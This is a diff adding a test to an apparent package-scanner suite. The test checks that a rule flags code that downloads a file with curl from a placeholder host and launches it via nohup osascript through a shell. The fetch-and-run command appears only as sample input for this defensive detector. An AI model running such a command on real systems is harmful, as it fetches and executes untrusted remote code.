@@ -271,3 +271,16 @@ def test_exec_of_an_escaped_bytes_literal_is_read():
     finding = first(report, "second-stage-download-execute")
     assert finding.where == "import"
     assert report.flagged
+
+
+def test_an_f_string_command_that_downloads_then_starts_the_file():
+    code = (
+        "from subprocess import Popen\n\n"
+        "def go():\n"
+        "    d = '/tmp/o'\n"
+        "    c = f'curl -s https://files.example.invalid/o.js -o {d} && nohup osascript {d} &'\n"
+        "    Popen(c, shell=True)\n"
+    )
+    assert "second-stage-shell-fetch" in rules(vet_wheel({"demo/go.py": code}))
+    fetch_only = "URL = 'x'\nCMD = f'curl -s https://files.example.invalid/{URL} -o out.json'\n"
+    assert "second-stage-shell-fetch" not in rules(vet_wheel({"demo/get.py": fetch_only}))
